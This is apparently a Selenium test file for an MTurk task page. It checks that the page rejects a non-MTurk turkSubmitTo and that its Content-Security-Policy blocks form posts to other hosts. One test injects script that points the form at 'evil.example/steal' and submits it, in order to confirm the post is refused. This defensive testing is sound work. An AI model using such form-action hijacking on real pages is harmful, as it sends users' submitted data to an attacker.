"""The task page's form posts only to the hosts its targets submit to (issue 9,
item 14): the Content-Security-Policy's form-action names them, and the page
itself refuses a turkSubmitTo that is not one of MTurk's hosts."""

import time
from urllib.parse import urlencode

from selenium.webdriver.common.by import By

import pagekit as pk
from plans import MOUSE

SANDBOX = "https://workersandbox.mturk.com"


def _query(submit_to):
    return urlencode({"assignmentId": "3XTESTASSIGNMENT0001", "hitId": "3XTESTHIT0001", "turkSubmitTo": submit_to,
                      "workerId": "A1TESTWORKER"})


def test_a_turk_submit_to_that_is_not_mturk_disables_submitting(browser, specs):
    spec = specs["grocery-search-relevance"]
    browser.open_task(spec.id, query=_query("https://evil.example"), submission_patterns=["https://evil.example/*"])
    assert browser.js("return window.hitc.target") == "mturk"
    assert not browser.driver.find_element(By.ID, "hitc-submit").is_enabled()
    assert "submission address" in browser.driver.find_element(By.ID, "hitc-notice").text
    pk.fill_by_mouse(browser, spec, MOUSE[spec.id])
    browser.js("document.getElementById('hitc-form').requestSubmit()")
    time.sleep(0.3)
    assert browser.cdp.non_image() == []


def test_the_policy_blocks_a_form_post_to_another_host(browser, specs):
    # Even if a script changed the form's action, the browser refuses to post it.
    spec = specs["grocery-search-relevance"]
    browser.open_task(spec.id, query=_query(SANDBOX), submission_patterns=[SANDBOX + "/*", "https://evil.example/*"])
    browser.js("var f = document.getElementById('hitc-form'); f.action = 'https://evil.example/steal'; f.submit();")
    time.sleep(0.5)
    assert not any("evil.example" in r.url for r in browser.cdp.intercepted), "the post got past form-action"
    assert browser.js("return location.protocol") == "file:", "the page navigated away"
